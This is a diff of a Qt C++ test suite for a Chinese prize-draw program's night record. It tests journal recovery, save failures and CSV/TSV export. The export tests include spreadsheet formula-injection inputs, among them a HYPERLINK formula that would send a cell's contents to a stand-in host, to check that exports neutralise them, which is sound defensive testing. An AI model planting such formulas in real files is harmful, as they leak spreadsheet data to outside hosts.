@@ -1,9 +1,13 @@
+#include "bingowindow.h"
 #include "boarddump.h"
 #include "cellbutton.h"
+#include "files.h"
 #include "form1.h"
 #include "form2.h"
+#include "frozenfolder.h"
 #include "journal.h"
 #include "nightrecord.h"
+#include "prizelist.h"
 #include "prompt.h"
 #include "random.h"
 #include "recordcontroller.h"
@@ -11,6 +15,7 @@
 
 #include <QAction>
 #include <QClipboard>
+#include <QElapsedTimer>
 #include <QFile>
 #include <QFileInfo>
 #include <QGroupBox>
@@ -19,11 +24,16 @@
 #include <QLabel>
 #include <QMenu>
 #include <QMenuBar>
+#include <QProcess>
 #include <QPushButton>
 #include <QRadioButton>
+#include <QStringEncoder>
 #include <QTableWidget>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <csignal>
+#include <sys/resource.h>
 
 namespace {
 QStringList prizeList()
@@ -32,19 +42,6 @@ QStringList prizeList()
     for (int i = 1; i <= 56; ++i)
         l << (i % 2 ? QStringLiteral("第%1號紀念獎").arg(i) : QStringLiteral("大獎%1").arg(i));
     return l;
-}
-
-void writeFile(const QString &path, const QByteArray &bytes)
-{
-    QFile f(path);
-    QVERIFY(f.open(QIODevice::WriteOnly));
-    f.write(bytes);
-}
-
-QByteArray readFile(const QString &path)
-{
-    QFile f(path);
-    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
 }
 
 void flushDeletes()
@@ -68,6 +65,11 @@ QStringList widgetDump(Form1 &w)
     out << QStringLiteral("start %1").arg(w.startButton()->isEnabled())
         << QStringLiteral("round2 %1")
                .arg(w.findChild<QRadioButton *>(QStringLiteral("Option1"))->isChecked());
+    if (Form2 *prize = w.prizeWindow(); prize && prize->isVisible()) {
+        prize->finishOpening();
+        out << QStringLiteral("prize ") +
+                   prize->findChild<QLabel *>(QStringLiteral("Label1"))->text();
+    }
     return out;
 }
 
@@ -77,6 +79,22 @@ struct Moment
     QStringList widgets;
     QList<NightRecord::Entry> record;
 };
+
+// Where each line of a journal ends: the header's first, then every change's.
+QList<qsizetype> lineEnds(const QByteArray &journal)
+{
+    QList<qsizetype> ends;
+    for (qsizetype at = journal.indexOf('\n'); at >= 0; at = journal.indexOf('\n', at + 1))
+        ends << at + 1;
+    return ends;
+}
+
+// The last stop of a record, as the resume question should name it.
+const NightRecord::Entry &lastStop(const QList<NightRecord::Entry> &record)
+{
+    return *std::find_if(record.rbegin(), record.rend(),
+                         [](const auto &e) { return e.drawNo > 0; });
+}
 
 QList<QStringList> parseTsv(const QString &text)
 {
@@ -139,6 +157,9 @@ private Q_SLOTS:
     void copyAndSave();
     void exportQuoting_data();
     void exportQuoting();
+    void cellsShowMarkupAsText();
+    void failedSaveKeepsEarlierFile_data();
+    void failedSaveKeepsEarlierFile();
     void menuEntryAndLiveWindow();
     void unwritableJournalWarnsOnce();
     void closeBoxSaysWhetherTheNightIsKept_data();
@@ -146,6 +167,17 @@ private Q_SLOTS:
     void journalStaysOffTheMovingLight();
     void opensAtBoardScale_data();
     void opensAtBoardScale();
+    void resavedList_data();
+    void resavedList();
+    void damagedJournalAsks();
+    void oldJournalThatCannotMove_data();
+    void oldJournalThatCannotMove();
+    void unusableJournalSaysWhy_data();
+    void unusableJournalSaysWhy();
+    void bingoAndFullScreenComeBack_data();
+    void bingoAndFullScreenComeBack();
+    void opensAtTheTopAndClosesByKey_data();
+    void opensAtTheTopAndClosesByKey();
 
 private:
     void playNight();
@@ -220,6 +252,7 @@ void TestRecord::card(int stack)
 {
     QTest::mouseClick(m_board->command1(stack), Qt::LeftButton);
     m_board->prizeWindow()->finishOpening();
+    note();
     QTest::mouseClick(m_board->prizeWindow()->findChild<QPushButton *>(QStringLiteral("Command1")),
                       Qt::LeftButton);
     flushDeletes();
@@ -280,15 +313,16 @@ void TestRecord::scriptedNight()
         return QDateTime(QDate(2024, 1, 19), QTime(19, 30)).addSecs(61 * minutes);
     };
     const QList<NightRecord::Entry> expected = {
+        // Each card's prize window, closed by 確 定, is a line of the journal too.
         {K::Stop, 1, numbers[0], 1, Board::Chance, prizes[0], at(1), {}},
-        {K::Stop, 2, numbers[1], 1, Board::Fate, prizes[1], at(3), {}},
-        {K::Discarded, 3, numbers[2], 1, -1, {}, at(5), {}},
-        {K::Correction, 0, corrected.value(0), 1, -1, {}, at(7), QStringLiteral("未抽 → 中獎")},
-        {K::Correction, 0, corrected.value(0), 1, -1, {}, at(8), QStringLiteral("中獎 → 保留")},
-        {K::Stop, 4, numbers[3], 1, Board::Chance, prizes[2], at(9), {}},
-        {K::Discarded, 5, numbers[4], 1, -1, {}, at(11), {}},
-        {K::Stop, 6, numbers[5], 2, Board::Fate, prizes[3], at(13), {}},
-        {K::Stop, 7, numbers[6], 2, Board::Fate, prizes[4], at(15), {}},
+        {K::Stop, 2, numbers[1], 1, Board::Fate, prizes[1], at(4), {}},
+        {K::Discarded, 3, numbers[2], 1, -1, {}, at(7), {}},
+        {K::Correction, 0, corrected.value(0), 1, -1, {}, at(9), QStringLiteral("未抽 → 中獎")},
+        {K::Correction, 0, corrected.value(0), 1, -1, {}, at(10), QStringLiteral("中獎 → 保留")},
+        {K::Stop, 4, numbers[3], 1, Board::Chance, prizes[2], at(11), {}},
+        {K::Discarded, 5, numbers[4], 1, -1, {}, at(14), {}},
+        {K::Stop, 6, numbers[5], 2, Board::Fate, prizes[3], at(16), {}},
+        {K::Stop, 7, numbers[6], 2, Board::Fate, prizes[4], at(19), {}},
     };
     const QList<NightRecord::Entry> &got = m_controller->keeper().record().entries();
     QCOMPARE(got.size(), expected.size());
@@ -303,9 +337,7 @@ void TestRecord::resumeFromEveryCut()
 {
     playNight();
     const QByteArray journal = readFile(m_journalPath);
-    QList<qsizetype> ends; // end of the header, then of every entry
-    for (qsizetype at = journal.indexOf('\n'); at >= 0; at = journal.indexOf('\n', at + 1))
-        ends << at + 1;
+    const QList<qsizetype> ends = lineEnds(journal);
     QCOMPARE(ends.size(), m_moments.size() + 1);
 
     for (int k = 0; k < int(m_moments.size()); ++k) {
@@ -324,12 +356,20 @@ void TestRecord::resumeFromEveryCut()
             Form1 w(prizeList(), random);
             RecordController rc(w, prizeList(), m_giftPath, path);
             rc.offerResume();
-            QCOMPARE(m_questions.size(), 1);
-            const qint64 stops = w.board().drawNo - 1;
-            QCOMPARE(m_questions[0],
-                     QStringLiteral("上次的抽獎尚未結束（已搖出 %1 次）。要繼續上次的抽獎嗎?")
-                         .arg(stops));
+            w.show();
+            QCoreApplication::processEvents(); // the prize window comes back over the board
             const Moment &live = m_moments[k];
+            QCOMPARE(m_questions.size(), 1);
+            // The last stop kept, as the record of the night saw it.
+            const NightRecord::Entry &last = lastStop(live.record);
+            QCOMPARE(m_questions[0],
+                     QStringLiteral("上次的抽獎尚未結束。\n\n"
+                                    "最後保存的是第 %1 次搖獎：號碼 %2，時間 %3。\n\n"
+                                    "要繼續上次的抽獎嗎?\n是：從那裡繼續。\n"
+                                    "否：重新開始；上次的紀錄檔會改名保存，不會刪除。")
+                         .arg(last.drawNo)
+                         .arg(last.number)
+                         .arg(last.time.toString(QStringLiteral("HH:mm:ss"))));
             const QStringList board = boardDump(w.board());
             for (qsizetype i = 0; i < board.size(); ++i)
                 QVERIFY2(
@@ -346,9 +386,10 @@ void TestRecord::resumedJournalGoesOn()
 {
     playNight();
     const QByteArray journal = readFile(m_journalPath);
-    const qsizetype cut = journal.size() - 40; // the last entry torn
-    writeFile(m_journalPath, journal.left(cut));
-    const QList<NightRecord::Entry> before = m_moments[m_moments.size() - 2].record;
+    // The last card's line torn: its stop waits for a card again.
+    const qsizetype stopEnd = journal.lastIndexOf("\n{\"change\":\"card\"") + 1;
+    writeFile(m_journalPath, journal.left(stopEnd + 40));
+    const QList<NightRecord::Entry> before = m_moments[m_moments.size() - 3].record;
 
     Random random;
     Form1 w(prizeList(), random);
@@ -361,7 +402,7 @@ void TestRecord::resumedJournalGoesOn()
 
     const Journal::Contents back = Journal::read(readFile(m_journalPath), prizeList());
     QVERIFY(!back.damaged);
-    QCOMPARE(back.entries.size(), m_moments.size());
+    QCOMPARE(back.entries.size(), m_moments.size() - 1);
     QCOMPARE(boardDump(back.entries.last().state), boardDump(w.board()));
     QCOMPARE(back.entries.last().change, BoardChange::Card);
 }
@@ -442,18 +483,44 @@ void TestRecord::copyAndSave()
 void TestRecord::exportQuoting_data()
 {
     QTest::addColumn<QString>("prize");
+    QTest::addColumn<QString>("inCsv");
     QTest::addColumn<QString>("inTsv");
-    QTest::newRow("plain") << QStringLiteral("電視機") << QStringLiteral("電視機");
-    QTest::newRow("comma") << QStringLiteral("筆電,滑鼠") << QStringLiteral("筆電,滑鼠");
-    QTest::newRow("quotes") << QStringLiteral("\"特\"獎") << QStringLiteral("\"特\"獎");
-    QTest::newRow("tab") << QStringLiteral("A\tB") << QStringLiteral("A B");
-    QTest::newRow("blanks kept") << QStringLiteral("  獎 ") << QStringLiteral("  獎 ");
-    QTest::newRow("empty prize") << QString() << QString();
+    QTest::newRow("plain") << QStringLiteral("電視機") << QStringLiteral("電視機")
+                           << QStringLiteral("電視機");
+    QTest::newRow("comma") << QStringLiteral("筆電,滑鼠") << QStringLiteral("筆電,滑鼠")
+                           << QStringLiteral("筆電,滑鼠");
+    QTest::newRow("quotes") << QStringLiteral("\"特\"獎") << QStringLiteral("\"特\"獎")
+                            << QStringLiteral("\"特\"獎");
+    QTest::newRow("tab") << QStringLiteral("A\tB") << QStringLiteral("A\tB")
+                         << QStringLiteral("A B");
+    QTest::newRow("blanks kept") << QStringLiteral("  獎 ") << QStringLiteral("  獎 ")
+                                 << QStringLiteral("  獎 ");
+    QTest::newRow("empty prize") << QString() << QString() << QString();
+    // A spreadsheet would run these as formulas; an apostrophe in front makes them text.
+    const QString link = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"領獎\")");
+    QTest::newRow("link formula") << link << u'\'' + link << u'\'' + link;
+    QTest::newRow("sum") << QStringLiteral("=1+1") << QStringLiteral("'=1+1")
+                         << QStringLiteral("'=1+1");
+    QTest::newRow("plus") << QStringLiteral("+886 電話卡") << QStringLiteral("'+886 電話卡")
+                          << QStringLiteral("'+886 電話卡");
+    QTest::newRow("minus") << QStringLiteral("-5% 折價券") << QStringLiteral("'-5% 折價券")
+                           << QStringLiteral("'-5% 折價券");
+    QTest::newRow("at") << QStringLiteral("@SUM(A1)") << QStringLiteral("'@SUM(A1)")
+                        << QStringLiteral("'@SUM(A1)");
+    QTest::newRow("leading tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1")
+                                 << QStringLiteral("' =1+1");
+    QTest::newRow("leading CR") << QStringLiteral("\r=1+1") << QStringLiteral("'\r=1+1")
+                                << QStringLiteral("' =1+1");
+    QTest::newRow("equals inside")
+        << QStringLiteral("A=B") << QStringLiteral("A=B") << QStringLiteral("A=B");
+    QTest::newRow("full-width equals")
+        << QStringLiteral("＝1+1") << QStringLiteral("＝1+1") << QStringLiteral("＝1+1");
 }
 
 void TestRecord::exportQuoting()
 {
     QFETCH(QString, prize);
+    QFETCH(QString, inCsv);
     QFETCH(QString, inTsv);
     NightRecord r;
     Board before;
@@ -474,10 +541,91 @@ void TestRecord::exportQuoting()
                           QString()};
     const QList<QStringList> csv = parseCsv(QString::fromUtf8(r.toCsv().mid(3)));
     QCOMPARE(csv.size(), 2);
-    QCOMPARE(csv[1], row);
+    QStringList csvRow = row;
+    csvRow[4] = inCsv;
+    QCOMPARE(csv[1], csvRow);
     QStringList tsvRow = row;
     tsvRow[4] = inTsv;
     QCOMPARE(parseTsv(r.toTsv()).value(1), tsvRow);
+}
+
+// A prize is shown as written in the record too: "<img>" there loads no picture.
+void TestRecord::cellsShowMarkupAsText()
+{
+    const QString picture = m_dir->filePath(QStringLiteral("big.png"));
+    QImage big(400, 400, QImage::Format_RGB32);
+    big.fill(Qt::red);
+    QVERIFY(big.save(picture));
+    const QString prize = QStringLiteral("<b>大獎</b><img src=\"%1\">").arg(picture);
+    NightRecord r;
+    Board before;
+    Board after;
+    after.drawNo = 2;
+    after.stopCell = 3;
+    r.apply(BoardChange::Stop, 3, before, after, 1, m_now);
+    after.drawnGift = prize;
+    r.apply(BoardChange::Card, Board::Chance, before, after, 1, m_now);
+    RecordWindow win;
+    win.setRecord(r);
+    win.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&win));
+    QCOMPARE(win.table()->item(0, 4)->text(), prize);
+    const QSize cell = win.table()->sizeHintForIndex(win.table()->model()->index(0, 4));
+    QVERIFY(cell.height() < 100);
+    QVERIFY(cell.width() > QFontMetrics(win.table()->font()).horizontalAdvance(prize) / 2);
+}
+
+void TestRecord::failedSaveKeepsEarlierFile_data()
+{
+    QTest::addColumn<QString>("how"); // limit: the disk takes 100 bytes, then no more
+    QTest::addColumn<QString>("reason");
+    QTest::newRow("disk full half-way") << "limit" << QStringLiteral("File too large");
+    QTest::newRow("no such folder") << "folder" << QString();
+}
+
+// A record that did not reach the disk is never reported as saved, and an earlier file
+// of that name stays as it was.
+void TestRecord::failedSaveKeepsEarlierFile()
+{
+    QFETCH(QString, how);
+    QFETCH(QString, reason);
+    playNight();
+    m_controller->showRecord();
+    RecordWindow *win = m_controller->recordWindow();
+    QVERIFY(win);
+    const QString folder = m_dir->filePath(how == QLatin1String("folder") ? QStringLiteral("gone")
+                                                                          : QStringLiteral("out"));
+    const QString csv = folder + QStringLiteral("/紀錄.csv");
+    const QByteArray earlier("earlier record\r\n");
+    if (how == QLatin1String("limit")) {
+        QVERIFY(QDir().mkpath(folder));
+        writeFile(csv, earlier);
+    }
+    RecordWindow::setSaveNameProvider([&](QWidget *, const QString &) { return csv; });
+
+    // Past the limit a write fails as on a full disk (EFBIG rather than ENOSPC).
+    struct rlimit before;
+    QCOMPARE(::getrlimit(RLIMIT_FSIZE, &before), 0);
+    const auto oldSignal = std::signal(SIGXFSZ, SIG_IGN);
+    if (how == QLatin1String("limit")) {
+        struct rlimit small = before;
+        small.rlim_cur = 100;
+        QCOMPARE(::setrlimit(RLIMIT_FSIZE, &small), 0);
+    }
+    QTest::mouseClick(win->findChild<QPushButton *>(QStringLiteral("saveAs")), Qt::LeftButton);
+    ::setrlimit(RLIMIT_FSIZE, &before);
+    std::signal(SIGXFSZ, oldSignal);
+
+    QCOMPARE(m_refusals.size(), 1);
+    QVERIFY2(m_refusals[0].startsWith(QStringLiteral("無法儲存抽獎紀錄（") + reason),
+             qPrintable(m_refusals[0]));
+    QVERIFY(m_refusals[0].contains(QDir::toNativeSeparators(csv)));
+    if (how == QLatin1String("limit")) {
+        QCOMPARE(readFile(csv), earlier);
+        // Nothing half-written is left beside it.
+        QCOMPARE(QDir(folder).entryList(QDir::Files | QDir::Hidden),
+                 QStringList{QStringLiteral("紀錄.csv")});
+    }
 }
 
 void TestRecord::menuEntryAndLiveWindow()
@@ -536,8 +684,9 @@ void TestRecord::closeBoxSaysWhetherTheNightIsKept_data()
     const QString lost = QStringLiteral("今晚的抽獎結果將不會保留。\n確定要結束嗎?");
     QTest::newRow("journal written") << false << false << kept;
     QTest::newRow("journal unwritable") << true << false << lost;
-    // The next start begins a fresh night.
-    QTest::newRow("after the closing picture") << false << true << lost;
+    // The journal keeps the finished night; the next start sets it aside under a dated name.
+    QTest::newRow("after the closing picture")
+        << false << true << QStringLiteral("今晚的抽獎已經結束，抽獎紀錄已保存。\n確定要結束嗎?");
 }
 
 void TestRecord::closeBoxSaysWhetherTheNightIsKept()
@@ -629,6 +778,307 @@ void TestRecord::opensAtBoardScale()
     m_controller->showRecord();
     QCOMPARE(m_controller->recordWindow(), win);
     QCOMPARE(win->size(), opened);
+}
+
+namespace {
+QByteArray encoded(const QStringList &lines, const char *encoding, bool mark = false)
+{
+    QStringEncoder e(encoding,
+                     mark ? QStringConverter::Flag::WriteBom : QStringConverter::Flag::Default);
+    return e.encode(lines.join(QStringLiteral("\r\n")));
+}
+
+const QString UsualAnswers = QStringLiteral("是：從那裡繼續。");
+} // namespace
+
+// A list re-saved in another encoding is the same list; one whose prizes changed is asked
+// about, and 否 keeps the night's journal.
+void TestRecord::resavedList_data()
+{
+    QTest::addColumn<QByteArray>("resaved");
+    QTest::addColumn<int>("differing");
+    QTest::addColumn<bool>("answer");
+    QStringList changed = prizeList();
+    changed[0] = QStringLiteral("機車一台");
+    changed[1] = QStringLiteral("腳踏車");
+    QTest::newRow("Big5 as it was") << encoded(prizeList(), "windows-950") << 0 << true;
+    QTest::newRow("re-saved as UTF-8") << encoded(prizeList(), "UTF-8") << 0 << true;
+    QTest::newRow("re-saved as UTF-8 with a mark")
+        << encoded(prizeList(), "UTF-8", true) << 0 << true;
+    QTest::newRow("re-saved as UTF-16") << encoded(prizeList(), "UTF-16LE", true) << 0 << true;
+    QTest::newRow("two prizes changed, go on") << encoded(changed, "UTF-8") << 2 << true;
+    QTest::newRow("two prizes changed, afresh") << encoded(changed, "windows-950") << 2 << false;
+}
+
+void TestRecord::resavedList()
+{
+    QFETCH(QByteArray, resaved);
+    QFETCH(int, differing);
+    QFETCH(bool, answer);
+    writeFile(m_giftPath, encoded(prizeList(), "windows-950"));
+    const PrizeList::Result first = PrizeList::load(m_giftPath);
+    QCOMPARE(first.lines, prizeList());
+    m_controller.reset();
+    m_controller =
+        std::make_unique<RecordController>(*m_board, first.lines, m_giftPath, m_journalPath);
+    m_controller->setClock([this] { return m_now = m_now.addSecs(61); });
+    spin();
+    card(Board::Chance);
+    spin();
+    const QByteArray journal = readFile(m_journalPath);
+
+    writeFile(m_giftPath, resaved);
+    const PrizeList::Result again = PrizeList::load(m_giftPath);
+    QVERIFY(again.ok());
+    m_answer = answer;
+    Random random;
+    Form1 w(again.lines, random);
+    RecordController rc(w, again.lines, m_giftPath, m_journalPath);
+    rc.offerResume();
+    QCOMPARE(m_questions.size(), 1);
+    const QString &q = m_questions[0];
+    QVERIFY2(q.startsWith(QStringLiteral("上次的抽獎尚未結束。")), qPrintable(q));
+    if (differing == 0) {
+        QVERIFY2(q.endsWith(UsualAnswers +
+                            QStringLiteral("\n否：重新開始；上次的紀錄檔會改名保存，不會刪除。")),
+                 qPrintable(q));
+    } else {
+        QVERIFY2(q.contains(QStringLiteral(
+                                "獎品清單 gift.txt 已經改過：上次的獎品有 %1 項不在新的清單裡。")
+                                .arg(differing)),
+                 qPrintable(q));
+        QVERIFY(q.contains(QStringLiteral("是：繼續上次的抽獎，用上次的獎品清單")));
+        QVERIFY(q.contains(QStringLiteral("否：用新的獎品清單重新開始")));
+    }
+    if (answer) {
+        // The night's own prizes, whatever gift.txt holds now.
+        QCOMPARE(boardDump(w.board()), boardDump(m_board->board()));
+    } else {
+        QCOMPARE(w.board().drawNo, 1);
+        QCOMPARE(w.board().gifts[0], QStringLiteral("機車一台"));
+        const QStringList kept = QDir(QFileInfo(m_journalPath).path())
+                                     .entryList({QStringLiteral("night-*.journal")}, QDir::Files);
+        QCOMPARE(kept.size(), 1);
+        QCOMPARE(readFile(QFileInfo(m_journalPath).dir().filePath(kept[0])), journal);
+    }
+    QVERIFY(m_refusals.isEmpty());
+}
+
+// A line spoilt in the middle: the question says so, names the whole copy and the last
+// stop that comes back; 是 brings back the night up to there.
+void TestRecord::damagedJournalAsks()
+{
+    playNight();
+    QByteArray journal = readFile(m_journalPath);
+    const QList<qsizetype> ends = lineEnds(journal);
+    const int spoilt = 6; // the line after the sixth change
+    journal.replace(ends[spoilt] + 2, 5, "\x01\x02\x03\x04\x05");
+    writeFile(m_journalPath, journal);
+    m_questions.clear();
+
+    Random random;
+    Form1 w(prizeList(), random);
+    RecordController rc(w, prizeList(), m_giftPath, m_journalPath);
+    rc.offerResume();
+    QCOMPARE(m_questions.size(), 1);
+    const Moment &live = m_moments[spoilt - 1];
+    QCOMPARE(boardDump(w.board()), live.board);
+    const QString copy = rc.keeper().damagedCopy();
+    QCOMPARE(readFile(copy), journal);
+    const NightRecord::Entry &last = lastStop(live.record);
+    QVERIFY(m_questions[0].contains(
+        QStringLiteral(
+            "抽獎紀錄檔有一部分已經損壞，只能恢復到下面這一次搖獎為止，之後的抽獎無法恢復。"
+            "完整的檔案已另存為：\n%1\n\n最後保存的是第 %2 次搖獎：號碼 %3")
+            .arg(copy)
+            .arg(last.drawNo)
+            .arg(last.number)));
+    QCOMPARE(readFile(m_journalPath), journal.left(ends[spoilt]));
+}
+
+// A data folder where nothing can be renamed or made: the old journal stays as it was,
+// the new night is not journaled, and the message says so with the file's name.
+void TestRecord::oldJournalThatCannotMove_data()
+{
+    QTest::addColumn<QString>("earlier");
+    QTest::newRow("unfinished, 否") << "unfinished";
+    QTest::newRow("closing reached") << "finished";
+    QTest::newRow("not a journal") << "garbage";
+}
+
+void TestRecord::oldJournalThatCannotMove()
+{
+    QFETCH(QString, earlier);
+    spin();
+    card(Board::Chance);
+    if (earlier == QLatin1String("finished"))
+        Q_EMIT m_board->boardChanged(BoardChange::Closing, 0);
+    if (earlier == QLatin1String("garbage"))
+        writeFile(m_journalPath, "\x01\x02\n");
+    const QByteArray journal = readFile(m_journalPath);
+    FrozenFolder frozen(QFileInfo(m_journalPath).path());
+    if (!frozen.ok())
+        QSKIP("no folder here can be made unwritable");
+    m_answer = false;
+    Random random;
+    Form1 w(prizeList(), random);
+    RecordController rc(w, prizeList(), m_giftPath, m_journalPath);
+    rc.offerResume();
+    QCOMPARE(m_refusals.size(), 1);
+    const QString &said = m_refusals[0];
+    QVERIFY2(
+        said.contains(QStringLiteral("上次的抽獎紀錄檔無法改名保存：\n%1\n（").arg(m_journalPath)),
+        qPrintable(said));
+    QVERIFY(said.contains(QStringLiteral("為了不蓋掉它，今晚的抽獎不會寫入紀錄檔")));
+    QVERIFY(!said.contains(QStringLiteral("：\n\n")));
+    QCOMPARE(w.board().drawNo, 1);
+    w.startClick();
+    while (w.board().timer1Enabled)
+        w.timer1Tick();
+    QCoreApplication::processEvents();
+    QCOMPARE(m_refusals.size(), 1); // said once, before the night
+    QCOMPARE(readFile(m_journalPath), journal);
+    QCOMPARE(w.closeQuestion(), QStringLiteral("今晚的抽獎結果將不會保留。\n確定要結束嗎?"));
+}
+
+void TestRecord::unusableJournalSaysWhy_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("why");
+    QTest::newRow("FIFO, nobody writing")
+        << "fifo" << QStringLiteral("它不是一般的檔案，而是一個具名管道 (FIFO)");
+    QTest::newRow("link to an endless device")
+        << "zero" << QStringLiteral("它不是一般的檔案，而是一個字元裝置");
+    QTest::newRow("folder") << "folder" << QStringLiteral("它不是一般的檔案，而是一個資料夾");
+    QTest::newRow("100 MB") << "huge"
+                            << QStringLiteral(
+                                   "它大於 48 MB，比一整晚的抽獎紀錄大得多，不是本程式寫的紀錄");
+    QTest::newRow("not a journal")
+        << "garbage" << QStringLiteral("它不是本程式能讀的抽獎紀錄，或開頭已經損壞");
+}
+
+void TestRecord::unusableJournalSaysWhy()
+{
+    QFETCH(QString, kind);
+    QFETCH(QString, why);
+    QDir().mkpath(QFileInfo(m_journalPath).path());
+    if (kind == QLatin1String("fifo") &&
+        QProcess::execute(QStringLiteral("mkfifo"), {m_journalPath}) != 0)
+        QSKIP("no FIFOs on this system");
+    if (kind == QLatin1String("huge")) {
+        QFile f(m_journalPath);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        QVERIFY(f.resize(100 * 1024 * 1024));
+    }
+    if (kind == QLatin1String("garbage"))
+        writeFile(m_journalPath, "\x01\x02\n");
+    if (kind == QLatin1String("zero"))
+        QVERIFY(QFile::link(QStringLiteral("/dev/zero"), m_journalPath));
+    if (kind == QLatin1String("folder"))
+        QVERIFY(QDir().mkpath(m_journalPath));
+    QElapsedTimer clock;
+    clock.start();
+    m_controller->offerResume();
+    QVERIFY2(clock.elapsed() < 3000, "read without hanging or flooding");
+    QCOMPARE(m_refusals.size(), 1);
+    const QStringList kept =
+        QDir(QFileInfo(m_journalPath).path())
+            .entryList({QStringLiteral("night-*.journal")},
+                       QDir::System | QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot);
+    QCOMPARE(kept.size(), 1);
+    QCOMPARE(m_refusals[0],
+             QStringLiteral("上次的抽獎紀錄檔無法使用，所以無法繼續上次的抽獎：\n%1\n%2。\n\n"
+                            "舊的紀錄檔已保存為：\n%3\n\n今晚的抽獎從頭開始。")
+                 .arg(m_journalPath, why, QFileInfo(m_journalPath).dir().filePath(kept[0])));
+    // The night begins a journal of its own in its place.
+    spin();
+    QVERIFY(!QFileInfo(m_journalPath).isSymLink());
+    QCOMPARE(Journal::read(readFile(m_journalPath), prizeList()).entries.size(), 1);
+}
+
+// The bingo numbers taken, in order, and full screen come back with the night.
+void TestRecord::bingoAndFullScreenComeBack_data()
+{
+    QTest::addColumn<bool>("stop");
+    QTest::addColumn<bool>("fullScreen");
+    QTest::newRow("bingo and a stop, full screen") << true << true;
+    QTest::newRow("bingo alone") << false << false;
+}
+
+void TestRecord::bingoAndFullScreenComeBack()
+{
+    QFETCH(bool, stop);
+    QFETCH(bool, fullScreen);
+    m_board->show();
+    if (fullScreen)
+        m_board->setWindowState(Qt::WindowFullScreen);
+    m_board->lottoClick();
+    BingoWindow *bingo = m_board->bingoWindow();
+    bingo->findChild<QPushButton *>(QStringLiteral("Command1(0)"))->click();
+    for (int i = 0; i < 3; ++i) {
+        bingo->draw().requestTake();
+        bingo->step();
+    }
+    const QList<int> taken = bingo->draw().taken();
+    QCOMPARE(taken.size(), 3);
+    if (stop)
+        spin();
+
+    Random random;
+    Form1 w(prizeList(), random);
+    RecordController rc(w, prizeList(), m_giftPath, m_journalPath);
+    rc.offerResume();
+    QCOMPARE(m_questions.size(), 1);
+    QVERIFY2(m_questions[0].contains(stop ? QStringLiteral("最後保存的是第 1 次搖獎")
+                                          : QStringLiteral("還沒有搖出任何號碼。")),
+             qPrintable(m_questions[0]));
+    QVERIFY(m_questions[0].contains(QStringLiteral("賓果遊戲已經取得 3 個號碼。")));
+    w.show();
+    QCOMPARE(w.isFullScreen(), fullScreen);
+    QTRY_VERIFY(w.bingoWindow());
+    QCOMPARE(w.bingoWindow()->draw().taken(), taken);
+    QVERIFY(w.bingoWindow()->isDrawing());
+    QStringList boxes;
+    for (int i = 0; i < 3; ++i)
+        boxes << w.bingoWindow()->findChild<QLabel *>(QStringLiteral("Label1(%1)").arg(i))->text();
+    QCOMPARE(boxes, (QStringList{QString::number(taken[0]), QString::number(taken[1]),
+                                 QString::number(taken[2])}));
+    // The draw goes on with the numbers left.
+    w.bingoWindow()->draw().requestTake();
+    w.bingoWindow()->step();
+    const QList<int> four = w.bingoWindow()->draw().taken();
+    QCOMPARE(four.size(), 4);
+    QVERIFY(!taken.contains(four[3]));
+}
+
+void TestRecord::opensAtTheTopAndClosesByKey_data()
+{
+    QTest::addColumn<QKeySequence>("key");
+    QTest::newRow("Escape") << QKeySequence(Qt::Key_Escape);
+    QTest::newRow("Ctrl+W") << QKeySequence(Qt::CTRL | Qt::Key_W);
+}
+
+void TestRecord::opensAtTheTopAndClosesByKey()
+{
+    QFETCH(QKeySequence, key);
+    m_board->show();
+    // More stops than the window shows at once.
+    for (int i = 0; i < 30; ++i) {
+        spin();
+        card(i % 2);
+    }
+    m_controller->showRecord();
+    QPointer<RecordWindow> win = m_controller->recordWindow();
+    QVERIFY(QTest::qWaitForWindowExposed(win.data()));
+    QTableWidget *table = win->table();
+    // The first row in view, every column as wide as its widest text.
+    QCOMPARE(table->rowAt(0), 0);
+    for (int col = 0; col < table->columnCount() - 1; ++col)
+        for (int row = 0; row < table->rowCount(); ++row)
+            QVERIFY(table->columnWidth(col) >=
+                    table->fontMetrics().horizontalAdvance(table->item(row, col)->text()));
+    QTest::keySequence(win.data(), key);
+    QTRY_VERIFY(!win || !win->isVisible());
 }
 
 QTEST_MAIN(TestRecord)
